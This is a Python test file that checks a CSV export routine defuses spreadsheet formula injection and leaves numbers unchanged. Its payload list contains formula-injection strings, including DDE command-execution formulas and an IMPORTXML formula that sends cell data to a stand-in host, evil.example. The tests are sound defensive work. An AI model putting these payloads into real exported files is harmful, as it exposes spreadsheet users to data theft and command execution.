"""I8: no cell of a file is a formula for a spreadsheet; numbers stay numbers."""

from __future__ import annotations

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from revops.web.csv_files import csv_lines

# What Excel, LibreOffice and Google Sheets take for the beginning of a formula.
STARTS = "=+-@\t\r\n＝＋－＠|%"
PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠A1",
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")", "-2+3+cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")", " =1+1", "\u00a0=1+1", "\ufeff=1+1",
    "\u200b=1+1", "-", "--1", "-1.2.3", "-1e5", "-Infinity", "-٣", "%0A=1+1", "|calc",
)  # fmt: skip


def read(*cells: str, delimiter: str = ",") -> list[str]:
    text = "".join(csv_lines(["a"] * len(cells), [cells]))
    return list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))[
        1
    ]


def is_formula(cell: str) -> bool:
    """Leading blanks and marks without width are skipped, as some spreadsheets do."""
    shown = cell.lstrip(" \u00a0\ufeff\u200b\u200e\u200f\u2060")
    return shown[:1] in STARTS if shown else False


class TestFiles:
    @pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
    def test_i8_disarm(self, payload: str) -> None:
        (cell,) = read(payload)
        assert not is_formula(cell)
        assert cell.removeprefix("'") == payload

    @pytest.mark.parametrize("number", ["-1", "-1.50", "0.01", "1200.00", "-0.99"])
    def test_i8_leave_numbers_alone(self, number: str) -> None:
        assert read(number) == [number]

    @given(text=st.text(max_size=40))
    def test_i8_disarm_whatever_is_written(self, text: str) -> None:
        (cell,) = read(text.replace("\0", ""))
        number = cell.removeprefix("-").replace(".", "", 1)
        assert not is_formula(cell) or (number.isascii() and number.isdigit())

    @pytest.mark.parametrize("cell", ["a;=1+1", 'a"\n=1+1', "a\t=1+1", "x,=1+1"])
    def test_i8_keep_a_cell_together_whatever_parts_cells(self, cell: str) -> None:
        """Where the comma is the decimal sign, spreadsheets split at semicolons or tabs."""
        text = "".join(csv_lines(["a"], [[cell]]))
        line = text.split("\r\n", 1)[1]
        assert line.startswith('"')
        for delimiter in ",;\t":
            assert read(cell, delimiter=delimiter) == [cell]
